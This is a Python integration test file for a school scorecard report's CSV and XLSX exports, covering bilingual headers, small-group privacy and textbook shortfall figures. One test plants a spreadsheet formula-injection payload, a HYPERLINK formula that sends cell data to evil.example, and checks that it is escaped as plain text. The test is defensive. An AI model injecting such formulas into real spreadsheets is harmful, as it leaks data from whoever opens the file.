"""CSV and XLSX exports open, read back, carry bilingual headers and keep the privacy rules."""

import csv
import io
import uuid

import pytest
from httpx import AsyncClient
from openpyxl import load_workbook

from backend.auth.models import Role
from backend.database.session import Database
from tests.integration.reports.test_scorecard import _cycle_with_scores
from tests.support.field import Tablet, programme, school_answers
from tests.support.sync_data import submission

pytestmark = pytest.mark.asyncio


async def test_xlsx_reads_back_with_the_scores(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, team, _ = await _cycle_with_scores(committed_client, committed_database)
    response = await committed_client.get(
        f"/reports/v1/cycles/{field.cycle_id}/scorecard.xlsx", headers=team.headers
    )
    assert response.status_code == 200
    assert "attachment" in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[2]]
    assert header[0] == "Үзүүлэлт / Indicator"
    assert "Зөрүү / Gap" in header
    group = header.index("Бүлэг / Group")
    rows = {(row[0], row[group]): row for row in sheet.iter_rows(min_row=3, values_only=True)}
    overall = rows[("teacher_attendance", "бүгд / all")]
    assert overall[header.index("Дундаж / Mean")] == 3.33
    assert overall[header.index("Зөрүү / Gap")] == -0.67
    assert rows[("teacher_attendance", "parents")][header.index("Оролцогч / Participants")] == 15


async def test_the_providers_csv_holds_no_trace_of_a_small_group(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, _, provider = await _cycle_with_scores(committed_client, committed_database)
    response = await committed_client.get(
        f"/reports/v1/cycles/{field.cycle_id}/scorecard.csv", headers=provider.headers
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    scores = response.content.decode("utf-8-sig").split("\r\n\r\n")[0]  # the first table
    table = list(csv.DictReader(io.StringIO(scores)))
    teachers = [r for r in table if r["Үзүүлэлт / Indicator"] == "teacher_attendance"]
    assert {r["Бүлэг / Group"] for r in teachers} == {"бүгд / all", "parents"}
    overall = next(r for r in teachers if r["Бүлэг / Group"] == "бүгд / all")
    # the parents' two groups alone: the teachers' three people are in no figure
    assert (overall["Дундаж / Mean"], overall["Оролцогч / Participants"]) == ("2.5", "15")


async def test_community_text_that_looks_like_a_formula_stays_text(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field = await programme(committed_database)
    team = await Tablet(committed_client, await field.user(Role.FACILITATOR)).sign_in()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    answers = school_answers(3)
    answers["teacher_attendance"] = {"value": 2, "reason": hostile, "suggestion": "+1 teacher"}
    pushed = await team.push(
        team.mutation(
            "submission",
            "create",
            uuid.uuid4(),
            submission(
                field,
                group={"type": "parents", "participants": {"female": 5, "male": 4}},
                answers=answers,
            ),
        )
    )
    assert pushed["results"][0]["status"] == "applied", pushed
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"

    text = (await committed_client.get(f"{url}.csv", headers=team.headers)).content.decode(
        "utf-8-sig"
    )
    reasons = list(csv.reader(io.StringIO(text.split("\r\n\r\n")[1])))
    assert reasons[0][2] == "Шалтгаан / Reason"
    assert ["teacher_attendance", "parents", "'" + hostile, "'+1 teacher"] in reasons

    book = load_workbook(
        io.BytesIO((await committed_client.get(f"{url}.xlsx", headers=team.headers)).content)
    )
    cells = {cell.value: cell for row in book["Reasons"].iter_rows() for cell in row}
    assert cells[hostile].data_type == "s"  # a string, never a formula
    assert cells["+1 teacher"].data_type == "s"


async def test_input_tracking_reaches_the_json_the_page_and_the_tables(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, team, _ = await _cycle_with_scores(committed_client, committed_database)
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"
    card = (await committed_client.get(url, headers=team.headers)).json()
    (textbooks,) = card["inputs"]
    # the provider counted 9 textbooks where the school is entitled to 12: 3 short, a quarter
    assert (textbooks["key"], textbooks["respondent"], textbooks["n"]) == (
        "textbooks_per_pupil",
        "provider",
        1,
    )
    assert (
        textbooks["entitled"],
        textbooks["actual"],
        textbooks["shortfall"],
        textbooks["shortfall_share"],
    ) == (12, 9, 3, 0.25)
    page = await committed_client.get(f"{url}.html", params={"lang": "en"}, headers=team.headers)
    assert 'data-input="textbooks_per_pupil"' in page.text
    assert "3 (25%)" in page.text
    text = (await committed_client.get(f"{url}.csv", headers=team.headers)).content.decode(
        "utf-8-sig"
    )
    inputs = list(csv.reader(io.StringIO(text.split("\r\n\r\n")[-1])))
    assert inputs[0][0] == "Үзүүлэлт / Indicator"
    assert inputs[0][7] == "Дутагдал / Shortfall"
    assert inputs[1][0] == "textbooks_per_pupil"
    assert inputs[1][5:8] == ["12.0", "9.0", "3.0"]
    book = load_workbook(
        io.BytesIO((await committed_client.get(f"{url}.xlsx", headers=team.headers)).content)
    )
    rows = list(book["Inputs"].iter_rows(values_only=True))
    assert rows[1][0] == "textbooks_per_pupil"
    assert rows[1][7] == 3
